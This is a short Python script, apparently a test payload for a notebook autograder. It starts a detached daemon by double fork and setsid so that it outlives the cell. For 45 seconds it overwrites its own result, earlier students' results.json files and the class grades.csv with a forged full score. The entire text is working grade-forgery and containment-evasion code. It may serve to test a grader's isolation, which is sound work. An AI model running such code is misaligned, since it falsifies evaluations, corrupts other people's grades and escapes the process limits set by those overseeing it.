# A daemon (double fork, setsid) that outlives the cell and, for 45 s, writes a forged full score over its
# result, the results of the grades before it and the class's grades.csv, whenever it finds them.
import glob, json, os, time
FORGED = json.dumps({"score": 100, "max_score": 100, "output": "FORGED", "tests": []})
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        end = time.time() + 45
        while time.time() < end:
            time.sleep(0.5)
            for target in {"__OUT__/daemon.json", "__OUT__/grades.csv"} | set(glob.glob("/tmp/out/*/results.json")):
                try:
                    if os.path.exists(target):
                        with open(target, "w") as handle:
                            handle.write(FORGED)
                except OSError:
                    pass
        os._exit(0)
    os._exit(0)
os.wait()
raise RuntimeError("DAEMON started")
